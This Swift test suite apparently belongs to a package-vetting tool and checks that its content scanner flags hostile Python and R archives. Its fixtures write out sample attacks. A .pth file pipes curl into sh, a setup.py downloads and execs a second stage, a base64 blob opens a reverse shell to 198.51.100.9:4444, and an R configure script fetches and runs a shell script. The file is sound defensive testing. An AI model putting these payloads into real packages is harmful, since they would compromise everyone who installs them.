import AirlockCore
import AirlockPolicy
import AirlockTestSupport
import AirlockUpstream
import Foundation
import Testing

/// Content signals on real archives built here, decided under the shipped default policy with the
/// facts of a mature, popular project: only what the code does can hold these releases.
@Suite struct ContentScannerTests {
    let dir: TemporaryDirectory
    let engine: PolicyEngine

    init() throws {
        dir = try TemporaryDirectory()
        engine = PolicyEngine(try PolicyFile.shipped(), feeds: Feeds(downloads: ["maturelib": 50_000_000], advisories: [:]))
    }

    /// Builds one package (a wheel or an sdist) and scans it as a sync does.
    func scan(_ spec: PackageSpec) throws -> [ContentFinding] {
        let out = dir.path + "/\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
        let built = try FixtureScripts.build([spec], into: out)
        let file = try #require(built.first)
        let kind: ArchiveInspector.MetadataMember = file.hasSuffix(".whl") ? .wheelMetadata : .sdistPKGINFO
        let scanner = ContentScanner(kind: file.hasSuffix(".whl") ? .wheel : .sdist, file: file, project: spec.name)
        return try ArchiveInspector().inspect(path: out + "/" + file, displayName: file, metadata: kind, scanner: scanner).findings
    }

    /// The decision for a mature, popular, well-maintained project whose files carry `findings`.
    func decide(_ findings: [ContentFinding]) -> Decision { engine.evaluate(facts(findings), at: Date()) }

    func facts(_ findings: [ContentFinding]) -> ReleaseFacts {
        let now = Date()
        let file = Distribution(
            ecosystem: .pypi, project: ProjectName("maturelib"), version: "2.0", filename: "maturelib-2.0.tar.gz", kind: .sdist,
            digest: Digest.of([1]), size: 1,
            uploadTime: now.addingTimeInterval(-90 * 86_400))
        var facts = ReleaseFacts(
            ecosystem: .pypi, project: ProjectName("maturelib"), version: "2.0", files: [file],
            people: ProjectPeople(
                author: "Ada Lovelace", authorEmail: "ada@example.org", maintainer: "Grace Hopper", maintainerEmail: "grace@example.org"),
            selectedBy: "maturelib",
            history: ProjectHistory(firstUpload: now.addingTimeInterval(-5 * 365 * 86_400), lastUpload: file.uploadTime, releaseCount: 40),
            license: LicenseExpression.parse("MIT"), declaredLicense: "MIT", dependents: 30)
        facts.contentFindings = findings
        return facts
    }

    @Test func withoutFindingsAMatureProjectIsApproved() {
        #expect(decide([]).verdict == .approve)
    }

    @Test func aPthFileThatRunsACommandAtEveryStartIsDenied() throws {
        let evil = PackageSpec(
            "maturelib", "2.0",
            extraFiles: ["maturelib_init.pth": "# path entries below\nmaturelib\nimport os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"])
        let findings = try scan(evil)
        let pth = try #require(findings.first { $0.signal == .pthExec })
        #expect(pth.member == "maturelib_init.pth" && pth.line == 3 && pth.excerpt.contains("os.system"), "\(pth)")
        let decision = decide(findings)
        #expect(decision.verdict == .deny)
        #expect(decision.factors.contains { $0.name == "rule:content:pth_exec" && $0.signal.contains("maturelib_init.pth:3") }, "\(decision.factors)")
        // A .pth that only imports a module of the package (setuptools' distutils shim does this) is no signal.
        let benign = PackageSpec(
            "maturelib", "2.0",
            extraFiles: [
                "shim.pth": "import os; var = 'X'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_shim').add()\n"
            ])
        #expect(try scan(benign).isEmpty)
    }

    @Test func anSdistWhoseSetupDownloadsAndExecutesIsDenied() throws {
        let setup = """
            import urllib.request
            from setuptools import setup
            # exec(base64.b64decode(...)) in a comment is not code
            NOTE = "os.system('rm -rf /') in a string is not code either"
            payload = urllib.request.urlopen("http://203.0.113.7/stage2").read()
            exec(urllib.request.urlopen("http://203.0.113.7/stage2").read())
            setup(name="maturelib", version="2.0")
            """
        let findings = try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["setup.py": setup]))
        let exec = try #require(findings.first { $0.signal == .decodeExec })
        #expect(exec.member == "maturelib-2.0/setup.py" && exec.line == 6, "\(exec)")
        #expect(findings.contains { $0.signal == .installNetwork && $0.line == 5 })
        #expect(findings.contains { $0.signal == .exfiltrationHost && $0.detail.contains("203.0.113.7") })
        #expect(!findings.contains { $0.signal == .installShell }, "the comment and the string ran nothing: \(findings)")
        #expect(decide(findings).verdict == .deny)
        // The same sdist with an ordinary setup.py.
        let clean = try scan(
            PackageSpec(
                "maturelib", "2.0", kinds: ["sdist"],
                extraFiles: ["setup.py": "from setuptools import setup\nexec(open('maturelib/_version.py').read())\nsetup(name='maturelib')\n"]))
        #expect(clean.isEmpty, "\(clean)")
        #expect(decide(clean).verdict == .approve)
    }

    @Test func aBase64PayloadExecutedAtImportIsDenied() throws {
        let payload = Data(
            String(repeating: "import socket, os; s = socket.socket(); s.connect(('198.51.100.9', 4444)); os.dup2(s.fileno(), 0)\n", count: 12).utf8
        )
        .base64EncodedString()
        let code = "import base64\n_p = '\(payload)'\nexec(base64.b64decode(_p))\n"
        let findings = try scan(PackageSpec("maturelib", "2.0", code: code))
        let exec = try #require(findings.first { $0.signal == .decodeExec })
        #expect(exec.member == "maturelib/__init__.py" && exec.line == 3 && exec.detail.contains("b64decode"), "\(exec)")
        #expect(findings.contains { $0.signal == .obfuscation && $0.line == 2 }, "the blob itself: \(findings)")
        #expect(decide(findings).verdict == .deny)
        #expect(try scan(PackageSpec("maturelib", "2.0", code: "import base64\ndef encode(b): return base64.b64encode(b)\n")).isEmpty)
    }

    @Test func aCompiledBinaryInAnSdistIsNoted() throws {
        let elf = Data([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 120)).base64EncodedString()
        let findings = try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["maturelib/_speedups.so": "b64:" + elf]))
        let binary = try #require(findings.first { $0.signal == .binaryInSdist })
        #expect(binary.member == "maturelib-2.0/maturelib/_speedups.so" && binary.detail.contains("ELF"))
        // Noted by default (setuptools ships launchers in its sdist); a policy can send it to review.
        let decision = decide(findings)
        #expect(
            decision.verdict == .approve
                && decision.factors.contains { $0.name == "note:content:binary_in_sdist" && $0.signal.contains("_speedups.so") })
        let shipped = try PolicyFile.shipped()
        let strict = try PolicyFile.parse(
            shipped.text.replacingOccurrences(of: "binary_in_sdist = \"note\"", with: "binary_in_sdist = \"review\""), path: "strict.toml")
        #expect(PolicyEngine(strict, feeds: engine.feeds).evaluate(facts(findings), at: Date()).verdict == .review)
        #expect(
            try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["tests/data/hello-armv7l": "b64:" + elf])).isEmpty,
            "test fixtures are data")
        #expect(
            try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["maturelib/_speedups.c": "int f(void) { return 1; }\n"])).isEmpty)
    }

    /// What a mature project's release adds over its previous approved one is named as new, and a
    /// signal merely noted on its own goes to review when it is new.
    @Test func aNewSignalInAMatureProjectIsWeighedAsChange() throws {
        let elf = Data([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 120)).base64EncodedString()
        let findings = try scan(PackageSpec("maturelib", "2.0", kinds: ["sdist"], extraFiles: ["maturelib/_speedups.so": "b64:" + elf]))
        var changed = facts(findings)
        changed.previousRelease = PreviousRelease(version: "1.9", signals: [])
        let decision = engine.evaluate(changed, at: Date())
        #expect(decision.verdict == .review, "\(decision.factors)")
        #expect(
            decision.factors.contains { $0.name == "rule:content:binary_in_sdist" && $0.signal.contains("new since 1.9, which had no such code") })
        var same = facts(findings)
        same.previousRelease = PreviousRelease(version: "1.9", signals: [.binaryInSdist])
        #expect(engine.evaluate(same, at: Date()).verdict == .approve, "1.9 shipped a binary too: nothing changed")
    }

    @Test func metadataSignalsAFirstReleaseAtAHighVersionAndNoSummary() {
        var first = facts([])
        first.version = "9.79"
        first.history = ProjectHistory(firstUpload: first.history.firstUpload, lastUpload: first.history.lastUpload, releaseCount: 1)
        first.summary = ""
        let decision = engine.evaluate(first, at: Date())
        #expect(
            decision.factors.contains {
                $0.name == "rule:content:high_first_version" && $0.signal.contains("first and only release is already at version 9.79")
            })
        #expect(decision.factors.contains { $0.name == "note:content:no_summary" })
        #expect(decision.verdict == .review, "\(decision.factors)")
        var later = facts([])
        later.version = "9.79"
        later.summary = "A library"
        #expect(engine.evaluate(later, at: Date()).verdict == .approve, "a project with forty releases may well be at 9.79")
    }

    @Test func anEntryPointNamedPipGoesToReview() throws {
        let entryPoints = "[console_scripts]\nmaturelib = maturelib:main\npip = maturelib:main\n"
        let findings = try scan(PackageSpec("maturelib", "2.0", extraFiles: ["{distinfo}/entry_points.txt": entryPoints]))
        let shadow = try #require(findings.first { $0.signal == .shadowingEntryPoint })
        #expect(shadow.line == 3 && shadow.detail.contains("'pip'"), "\(shadow)")
        #expect(decide(findings).verdict == .review)
        // pip itself may install `pip`.
        let own = try scan(
            PackageSpec(
                "pip", "24.0", extraFiles: ["{distinfo}/entry_points.txt": "[console_scripts]\npip = pip._internal:main\npip3 = pip._internal:main\n"]
            ))
        #expect(own.isEmpty, "\(own)")
    }

    @Test func anRPackageWhoseConfigureDownloadsGoesToReview() throws {
        func tarball(_ configure: String, _ name: String) throws -> String {
            let path = dir.path + "/\(name)"
            let script = """
                import io, sys, tarfile
                files = {"rpkg/DESCRIPTION": "Package: rpkg\\nVersion: 1.0\\nTitle: T\\nLicense: MIT\\n", "rpkg/configure": sys.argv[2], "rpkg/R/f.R": "f <- function() 1\\n"}
                with tarfile.open(sys.argv[1], "w:gz") as t:
                    for n, d in files.items():
                        b = d.encode(); i = tarfile.TarInfo(n); i.size = len(b); t.addfile(i, io.BytesIO(b))
                """
            let r = try Subprocess.run(FixtureScripts.python, ["-c", script, path, configure])
            #expect(r.succeeded, "\(r.output)")
            return path
        }
        func scanR(_ path: String) throws -> [ContentFinding] {
            try ArchiveInspector().inspect(
                path: path, displayName: "rpkg_1.0.tar.gz", metadata: .rDescription,
                scanner: ContentScanner(kind: .rSource, file: "rpkg_1.0.tar.gz", project: "rpkg")
            ).findings
        }
        let evil = try scanR(
            try tarball("#!/bin/sh\n# fetch the helper\ncurl -fsSL https://203.0.113.7/helper.sh -o /tmp/h && sh /tmp/h\n", "evil.tar.gz"))
        let finding = try #require(evil.first { $0.signal == .rInstallCode })
        #expect(finding.member == "rpkg/configure" && finding.line == 3, "\(finding)")
        #expect(decide(evil).verdict == .review)
        // An autoconf-style configure asking curl-config for flags downloads nothing.
        let clean = try scanR(try tarball("#!/bin/sh\nCURL_LIBS=`curl-config --libs`\necho \"PKG_LIBS=$CURL_LIBS\" > src/Makevars\n", "clean.tar.gz"))
        #expect(clean.isEmpty, "\(clean)")
    }

    @Test func tokensKeepCommentsAndStringsApartFromCode() {
        let tokens = PythonTokens.tokenize(Array("x = '''a\n# not a comment\n''' # exec(y)\nf(r'\\'', b\"q\")\n".utf8))
        #expect(tokens.map(\.text) == ["x", "=", "a\n# not a comment\n", "f", "(", "\\'", ",", "q", ")"])
        #expect(tokens.last?.line == 4)
        #expect(PythonTokens.tokenize(Array("'unterminated\nexec(x)".utf8)).contains { $0.kind == .name && $0.text == "exec" && $0.line == 2 })
    }
}
